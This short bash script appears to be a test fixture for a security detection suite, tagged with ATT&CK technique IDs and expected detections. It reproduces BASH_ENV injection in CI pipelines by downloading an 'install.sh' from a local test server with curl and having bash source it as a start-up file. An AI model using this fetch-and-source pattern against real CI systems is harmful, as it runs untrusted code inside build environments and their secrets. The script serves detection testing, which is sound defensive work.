#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1546.004 Event Triggered Execution: Unix Shell Configuration Modification
# reproduces: BASH_ENV injection into later CI steps (GitHub Actions environment injection, CVE-2020-15228 and $GITHUB_ENV after it): a downloaded "profile" becomes BASH_ENV, which bash sources before every non-interactive script, so every later `run:` step executes it
# expect: dropped-file-executed ^bash$
# expect: startup-file-injection ^bash$
# exec-borne: no
#
# No exec of the download itself: bash reads it as its start-up file.
set -u

profile=$(mktemp "${BW_ATTACK_TMP:?}/.ci-profile-XXXXXX")
trap 'rm -f "$profile"' EXIT

curl -fsSL --connect-timeout 5 -o "$profile" "http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh" || exit 1
BASH_ENV="$profile" bash -c 'exit 0'
